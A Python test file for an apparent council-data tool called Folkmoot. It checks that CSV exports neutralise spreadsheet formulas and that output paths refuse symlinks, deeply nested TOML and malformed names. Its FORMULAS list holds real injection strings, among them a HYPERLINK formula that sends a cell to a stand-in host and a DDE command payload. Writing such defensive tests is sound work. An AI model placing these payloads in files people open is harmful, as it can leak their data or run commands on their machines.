"""What somebody writes into a record, a name, a file or a path to do more than it says."""

from __future__ import annotations

import csv
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from folkmoot_coordinator.publication.table_files import harmless_table
from folkmoot_node.linkage.review_file import Pair
from folkmoot_node.linkage.review_file import write as write_review
from folkmoot_node.sources.quarantine import Quarantine
from folkmoot_operator.private_files import open_private, write_private
from folkmoot_operator.spreadsheets import harmless
from folkmoot_sdk.source import Rejection
from tests.commands import run_inside

TRAFFORD = "E08000009"
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1)', "+44 7700 900000", "-2+3", "@SUM(1)", "\t=1+1", "\r=1",
    " =1+1", "\n=1", "\u200b=1", "\ufeff=1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠A1", "x;=1+1",
    'x;"=1"', "Flat 2\t=1+1", "\u202e=1", "=cmd|' /C calc'!A0",
]  # fmt: skip
"""Texts that some spreadsheet computes, in a list separated by commas, semicolons or tabs."""
_SIGNS = tuple("=+-@＝＋－＠")


def computed(text: str) -> bool:
    """Whether a spreadsheet would compute a cell, whichever sign it takes for the separator."""
    cells = text.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
    return any(
        cell.strip().strip('\u200b\ufeff\u202e\u00a0" ').startswith(_SIGNS) for cell in cells
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert computed(text)
    assert not computed(harmless(text))


@pytest.mark.parametrize("text", ["", "7 High St", "a-b", "2026-12-01", "x = 1", "o'clock", "é"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert harmless(text) == text


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_no_file_of_ours_has_a_formula(tmp_path: Path) -> None:
    """Files of rejected records, for clerical review, of households and of results."""
    quarantine = Quarantine(tmp_path, "arrears", "1")
    quarantine.reject([Rejection(text, 2, text, text, text) for text in FORMULAS])
    quarantine.close()
    texts = iter(FORMULAS)
    pairs = [Pair("id", (t, t), (t, t), 1, 0.5, t, 3) for t in texts]
    write_review(tmp_path / "review.csv", pairs)
    kinds: list[pl.DataType] = [pl.String(), pl.Categorical(), pl.Enum(FORMULAS)]
    tables = [pl.DataFrame({"a": pl.Series(FORMULAS, dtype=kind), "n": -1}) for kind in kinds]
    from folkmoot_node.operations import export_households

    for number, table in enumerate(tables):
        harmless_table(table).write_csv(tmp_path / f"results-{number}.csv")
        export_households.harmless(table).write_csv(tmp_path / f"households-{number}.csv")
    files = sorted(tmp_path.iterdir())
    assert len(files) == 8
    for path in files:
        cells = [cell for cell in cells_of(path) if cell != "-1"]  # a number of our own
        assert len(cells) > len(FORMULAS)
        assert [cell for cell in cells if computed(cell)] == []


def test_a_table_without_formulas_keeps_its_types() -> None:
    table = pl.DataFrame({"a": pl.Series(["x", None], dtype=pl.Categorical), "n": [-1, 2]})
    assert harmless_table(table) is table


BY_ANOTHER_WAY = {
    "coordinator/folkmoot_coordinator/viewer/api/written_tables.py": "`table_files.write_csv` "
    "makes it harmless; the API's own tests have hostile names",
    "coordinator/folkmoot_coordinator/drafts/offer.py": "kept in a draft for `area_file` to read",
    "node/folkmoot_node/sources/outcomes.py": "digits, a date, yes or no: nothing that is typed",
}
"""Modules that write CSV without the guard, and why that is no file that a spreadsheet opens."""


def test_every_csv_goes_through_the_guard() -> None:
    """A module that writes CSV names `spreadsheets`, or what goes through it."""
    root = Path(__file__).parents[2]
    without = []
    for folder in ("node", "coordinator", "operator", "plugins"):
        for path in (root / folder).rglob("*.py"):
            text = path.read_text("utf-8")
            writes = any(word in text for word in ("write_csv(", "csv.writer(", "write_excel("))
            if writes and "harmless" not in text:
                without.append(str(path.relative_to(root)))
    assert sorted(without) == sorted(BY_ANOTHER_WAY)


@pytest.fixture
def node(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    made = ("init", "--home", home, "--council", TRAFFORD, "--name", "T")
    run_inside("folkmoot-node", *made).said()
    return home


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[Path]:
    """A file that must stay as it is."""
    file = tmp_path / "victim"
    file.write_text("precious")
    yield file
    assert file.read_text() == "precious"


def test_links_are_not_followed_by_what_names_a_file_to_write(
    node: Path, tmp_path: Path, victim: Path
) -> None:
    extract = tmp_path / "council_tax.csv"
    extract.write_text("UPRN,Arrears\n100012345678,5\n")
    for name, command in {
        "calls.csv": ["households", "--home", node, "--out"],
        "calls.parquet": ["households", "--home", node, "--out"],
        "scores.csv": ["score", "--home", node, "--households"],
        "mapping.toml": ["sources", "draft", extract, "--force", "--out"],
        "plot.svg": ["equality", "--home", node, "--plot"],
    }.items():
        link = tmp_path / name
        link.symlink_to(victim)
        run_inside("folkmoot-node", *command, link)
        assert link.is_symlink()
    from folkmoot_node.operations.export_households import require_writable
    from folkmoot_operator.problems import Problem

    with pytest.raises(Problem, match="is a link"):
        require_writable(tmp_path / "calls.csv")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can lay a link as another account")
def test_a_folder_behind_another_accounts_link_is_refused(tmp_path: Path) -> None:
    from folkmoot_node.operations.export_households import require_writable
    from folkmoot_operator.problems import Problem

    (tmp_path / "elsewhere").mkdir()
    link = tmp_path / "shared"
    link.symlink_to("elsewhere")
    require_writable(link / "calls.csv")
    os.lchown(link, 64_123, 64_123)
    with pytest.raises(Problem, match="is a link"):
        require_writable(link / "calls.csv")


def test_a_folder_in_which_all_can_replace_the_file_is_refused(tmp_path: Path) -> None:
    from folkmoot_node.operations.export_households import require_writable
    from folkmoot_operator.problems import Problem

    tmp_path.chmod(0o777)
    with pytest.raises(Problem, match="every account can replace"):
        require_writable(tmp_path / "calls.csv")
    tmp_path.chmod(0o1777)
    require_writable(tmp_path / "calls.csv")
    tmp_path.chmod(0o700)


def test_private_files_are_not_written_through_links(tmp_path: Path, victim: Path) -> None:
    link = tmp_path / "log"
    link.symlink_to(victim)
    for append in (True, False):
        with pytest.raises(OSError):
            open_private(link, append=append)
    write_private(link, b"new", replace=True)
    assert not link.is_symlink()


DEEP = {
    "arrays": "a = " + "[" * 5000 + "]" * 5000,
    "tables": "a = " + "{b = " * 5000 + "1" + "}" * 5000,
    "keys": ".".join("a" * 20_000) + " = 1",
}


@pytest.mark.parametrize("deep", DEEP)
@pytest.mark.parametrize("file", ["node.toml", "risk-policy.toml", "release-policy.toml"])
def test_toml_that_is_nested_deeply_is_a_settings_error(node: Path, file: str, deep: str) -> None:
    with (node / file).open("a") as settings:
        settings.write("\n")
    text = DEEP[deep] + "\n" + (node / file).read_text()
    (node / file).write_text(text)
    assert f"{file}" in run_inside("folkmoot-node", "policy", "show", "--home", node).said(3)


@pytest.mark.parametrize("deep", DEEP)
def test_an_invitation_that_is_nested_deeply_is_refused(
    node: Path, tmp_path: Path, deep: str
) -> None:
    invitation = tmp_path / "invitation.toml"
    invitation.write_text(DEEP[deep])
    said = run_inside("folkmoot-node", "enrol", invitation, "--home", node).said(3)
    assert str(invitation) in said


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("folkmoot-node", ["init", "--council", "E٠٨٠٠٠٠٠٩", "--name", "T"]),
        ("folkmoot-node", ["init", "--council", "E0800000９", "--name", "T"]),
        ("folkmoot-node", ["explain", "١٠٠٠١٢٣٤٥٦٧٨"]),
        ("folkmoot-node", ["explain", "１０００１２３４５６７８"]),
        ("folkmoot-node", ["score", "--reference-date", "٢٠٢٦-١٢-٠١"]),
        ("folkmoot-node", ["score", "--reference-date=２０２６-12-01"]),
        ("folkmoot-node", ["ledger", "verify", "--expect", "١٢:" + "0" * 64]),
        ("folkmoot-node", ["audit", "show", "--since", "２０２６-１２-０１"]),
        ("folkmoot-coordinator", ["invite", "E0800000９"]),
        ("folkmoot-coordinator", ["init", "--name", "R", "--host", "x", "--collection-port", "７"]),
    ],
)  # fmt: skip
def test_digits_of_other_scripts_are_none(
    node: Path, tmp_path: Path, program: str, arguments: list[str]
) -> None:
    home = node if program == "folkmoot-node" and arguments[0] != "init" else tmp_path / "new"
    if arguments[0] == "invite":
        run_inside(program, "init", "--home", home, "--name", "R", "--host", "127.0.0.1").said()
    done = run_inside(program, *arguments, "--home", home)
    assert done.code == 2, (done.stdout, done.stderr)
    assert "fault" not in done.stderr


@pytest.mark.parametrize("length", [200, 250, 255])
def test_names_as_long_as_a_file_system_takes_are_written(tmp_path: Path, length: int) -> None:
    path = tmp_path / ("é" * ((length - 4) // 2) + ".csv")
    write_private(path, b"x", replace=True)
    write_private(path, b"y", replace=True)
    assert path.read_bytes() == b"y"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [path]


LONG = "x" * 5000


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("folkmoot-node", ["score", "--home", LONG]),
        ("folkmoot-node", ["init", "--home", LONG, "--council", TRAFFORD, "--name", "T"]),
        ("folkmoot-node", ["households", "--home", "{home}", "--out", LONG + ".csv"]),
        ("folkmoot-node", ["score", "--home", "{home}", "--households", LONG + ".csv"]),
        ("folkmoot-node", ["score", "--home", "{home}", "--policy", LONG]),
        ("folkmoot-node", ["policy", "sign", "--home", "{home}", "--signer", "A", "--key", LONG]),
        ("folkmoot-node", ["enrol", LONG, "--home", "{home}"]),
        ("folkmoot-node", ["approve", LONG, "--home", "{home}"]),
        ("folkmoot-node", ["sources", "draft", LONG]),
        ("folkmoot-coordinator", ["init", "--home", LONG, "--name", "R", "--host", "127.0.0.1"]),
        ("folkmoot-coordinator", ["init", "--home", "{new}", "--name", LONG, "--host", "::1"]),
        ("folkmoot-coordinator", ["init", "--home", "{new}", "--name", "R", "--host", LONG]),
    ],
)  # fmt: skip
def test_names_that_are_too_long_are_no_fault(
    node: Path, tmp_path: Path, program: str, arguments: list[str]
) -> None:
    places = {"{home}": str(node), "{new}": str(tmp_path / "new")}
    done = run_inside(program, *(places.get(word, word) for word in arguments))
    assert done.code in (2, 3, 4, 5), (done.code, done.stderr)
    assert "a fault in Folkmoot" not in done.stderr
    assert sys.getrecursionlimit() >= 1000
